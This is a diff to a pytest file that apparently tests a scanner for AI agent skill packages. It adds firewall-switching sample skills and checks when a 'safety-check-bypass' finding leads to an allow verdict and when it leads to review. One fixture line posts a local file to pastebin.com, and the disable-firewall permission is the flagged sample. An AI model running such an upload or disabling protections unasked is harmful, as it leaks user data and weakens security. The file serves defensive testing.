@@ -121,6 +121,33 @@ def test_upload():
     requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": open("notes.txt").read()})
 '''
 
+FIREWALL_SKILL = """# Widget firewall switches
+
+Read `references/permissions.md` to get the full list of permissions this skill needs.
+
+Switch protection on or off for the hosts the user names with `widgetctl fw set`.
+"""
+
+PERMISSIONS = """# Permission list
+
+## Write permissions
+
+- `widget-fw:PutEnableSwitch` - Enable firewall protection for specified hosts
+- `widget-fw:PutDisableSwitch` - Disable firewall protection for specified hosts
+"""
+
+FIREWALL_SKILL_ZH = """# 防火墙开关
+
+阅读 `references/permissions.md`，获取本技能所需的全部权限。
+
+用 `widgetctl fw set` 为用户指定的主机开启或关闭防护。
+"""
+
+PERMISSIONS_ZH = """# 权限列表
+
+- `widget-fw:PutDisableSwitch`：关闭防火墙
+"""
+
 CASES: dict[str, tuple[str, dict[str, str]]] = {
     "sample-output": (SAMPLE_OUTPUT, {"scripts/analyze.py": "print('report')\n"}),
     "sample-output-zh": (SAMPLE_OUTPUT_ZH, {"scripts/analyze.py": "print('report')\n"}),
@@ -132,8 +159,22 @@ CASES: dict[str, tuple[str, dict[str, str]]] = {
     "agent-sudo": (AGENT_SUDO, {}),
     "shown-persist": (SHOWN_PERSIST, {}),
     "paste-user": (PASTE_USER, {}),
+    "firewall-manager": (FIREWALL_SKILL, {"references/permissions.md": PERMISSIONS}),
+    "firewall-manager-zh": (FIREWALL_SKILL_ZH, {"references/permissions.md": PERMISSIONS_ZH}),
+    "markdown-tables": (FIREWALL_SKILL.replace("# Widget firewall switches", "# Tables"),
+                        {"references/permissions.md": PERMISSIONS}),
+    "markdown-tables-zh": (FIREWALL_SKILL_ZH.replace("# 防火墙开关", "# 表格"), {"references/permissions.md": PERMISSIONS_ZH}),
     "paste-test": ("# Notes\n\nRun `python -m notes` in the project.\n",
                    {"notes/__init__.py": "", "tests/test_upload.py": PASTE_TEST}),
+}
+
+
+DESCRIPTIONS = {
+    "firewall-manager": "Manage Widget Cloud firewall switches. Use when enabling or disabling firewall protection "
+                        "for the user's hosts.",
+    "firewall-manager-zh": "管理 Widget 云防火墙开关：开启或关闭云防火墙的防护。",
+    "markdown-tables": "Formats Markdown tables.",
+    "markdown-tables-zh": "格式化 Markdown 表格。",
 }
 
 
@@ -141,7 +182,7 @@ CASES: dict[str, tuple[str, dict[str, str]]] = {
 def verdicts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
     root = tmp_path_factory.mktemp("context-hygiene")
     for name, (body, extra) in CASES.items():
-        make_described_skill(root, name, f"The {name} helper.", body, extra)
+        make_described_skill(root, name, DESCRIPTIONS.get(name, f"The {name} helper."), body, extra)
     doc, _ = scan_json("--fail-on", "never", "--no-cache", "--quiet", *sorted(str(p) for p in root.iterdir()))
     return {Path(p["input"]).name: p for p in doc["packages"]}
 
@@ -163,3 +204,19 @@ def test_a_capability_exercised_or_worth_a_look_stays_at_review(verdicts: dict[s
                                                                 name: str) -> None:
     pkg = verdicts[name]
     assert pkg["verdict"] in ("review", "block"), pkg["reasons"]
+
+
+@pytest.mark.parametrize("name", ["firewall-manager", "firewall-manager-zh"])
+def test_the_skills_stated_subject_in_its_reference_text_is_hygiene(verdicts: dict[str, dict[str, Any]],
+                                                                    name: str) -> None:
+    pkg = verdicts[name]
+    assert any(f["rule_id"] == "safety-check-bypass" for f in pkg["findings"]), pkg["findings"]
+    assert pkg["verdict"] == "allow", pkg["reasons"]
+
+
+@pytest.mark.parametrize("name", ["markdown-tables", "markdown-tables-zh"])
+def test_the_same_reference_text_in_an_unrelated_skill_stays_at_review(verdicts: dict[str, dict[str, Any]],
+                                                                       name: str) -> None:
+    pkg = verdicts[name]
+    assert pkg["verdict"] == "review", pkg["reasons"]
+    assert any(r.startswith("safety-check-bypass") for r in pkg["reasons"]), pkg["reasons"]
